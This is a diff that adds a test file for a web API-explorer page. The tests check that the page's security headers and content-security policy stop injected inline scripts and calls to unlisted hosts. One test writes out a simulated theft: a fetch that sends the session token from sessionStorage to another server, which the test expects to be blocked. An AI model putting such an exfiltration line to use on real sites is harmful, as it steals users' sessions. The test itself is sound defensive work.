@@ -1,0 +1,84 @@
+// The page's own armour: the policy in its head, the headers of each host, the hosts that it may ask.
+import assert from 'node:assert/strict';
+import { readFileSync } from 'node:fs';
+import { join } from 'node:path';
+import { test } from 'node:test';
+import { staticServer } from '../../tools/serve.mjs';
+import { DEMO, DIST, listen, open, send, signInAndUse, siteFor, startSandbox, startServer, startSite } from './harness.mjs';
+
+const sandbox = await startSandbox();
+const read = (name) => readFileSync(join(DIST, name), 'utf8');
+
+/** The headers that a host's file gives to every path. */
+const HOSTS = {
+  '_headers (Netlify, Cloudflare Pages)': () => [...read('_headers').split(/\n(?=\/)/)[0].matchAll(/^ {2}([^:]+): (.+)$/gm)],
+  'nginx-headers.conf': () => [...read('nginx-headers.conf').matchAll(/^add_header (\S+) "([^"]+)" always;$/gm)],
+  'Caddyfile-headers': () => [...read('Caddyfile-headers').matchAll(/^ {2}(\S+) "([^"]+)"$/gm)],
+  // GitHub Pages sends none of ours; the policy in the page's head has to do.
+  'no headers': () => [],
+};
+
+for (const [host, headers] of Object.entries(HOSTS)) {
+  test(`${host}: the page works, and nothing foreign runs in it`, async () => {
+    const common = Object.fromEntries(headers().map(([, name, value]) => [name, value]));
+    if (host !== 'no headers') {
+      assert.match(common['Content-Security-Policy'], /frame-ancestors 'none'/);
+      assert.equal(common['Referrer-Policy'], 'no-referrer');
+      assert.equal(common['Cross-Origin-Opener-Policy'], 'same-origin');
+      assert.match(common['Permissions-Policy'], /camera=\(\)/);
+    }
+    const site = `${await listen(staticServer(DIST, { overrides: { '/site.json': siteFor(sandbox.address) }, common }))}/`;
+    const { page, finish } = await open(site);
+    await signInAndUse(page, DEMO);
+    assert.equal(await send(page), '200 OK');
+    await page.getByRole('tab', { name: 'cURL' }).last().click();
+    await page.locator('.snippet pre').waitFor();
+    await finish();
+    const hostile = await open(site);
+    await hostile.page.evaluate(() => {
+      const script = document.createElement('script');
+      script.textContent = 'window.ran = 1';
+      document.body.append(script);
+      const link = document.createElement('a');
+      link.setAttribute('onclick', 'window.ran = 1');
+      document.body.append(link);
+      link.click();
+    }).catch(() => {});
+    assert.equal(await hostile.page.evaluate(() => window.ran), undefined);
+    await hostile.finish({ expectErrors: true });
+  });
+}
+
+/** A site whose servers are all known. */
+const closed = (connect) => siteFor(sandbox.address, (site, api) => {
+  api.servers = [{ id: 'local', title: 'L', url: `${sandbox.origin}/api/ver1.0` }];
+  if (connect) site.connect = connect;
+});
+
+test('a site of known servers can ask no other host, whatever runs in it', async () => {
+  const asked = [];
+  const other = await startServer((request, response) => { asked.push(request.url); response.writeHead(200, { 'Access-Control-Allow-Origin': '*' }).end(); });
+  const { page, finish } = await open(await startSite({ '/site.json': closed() }));
+  await signInAndUse(page, DEMO);
+  assert.equal(await send(page), '200 OK');
+  const stolen = await page.evaluate((url) => fetch(`${url}/?token=${sessionStorage.getItem('obzor.session')}`).then(() => 'sent', () => 'stopped'), other);
+  assert.equal(stolen, 'stopped');
+  assert.deepEqual(asked, []);
+  await finish({ expectErrors: true });
+});
+
+test('a request that the list of hosts stops is explained', async () => {
+  const site = await startSite({ '/site.json': closed(['https://api.example.com']) });
+  const { page, finish } = await open(site);
+  const before = sandbox.requests().length;
+  await page.getByRole('button', { name: 'Send', exact: true }).click();
+  await page.getByText(`${sandbox.origin} is not one of them`).waitFor();
+  assert.equal(sandbox.requests().length, before);
+  await finish({ expectErrors: true });
+});
+
+test('a list of hosts that is wrong names its field', async () => {
+  const { page, finish } = await open(await startSite({ '/site.json': closed(['api.example.com/v1']) }));
+  await page.getByText('/connect/0').waitFor();
+  await finish();
+});
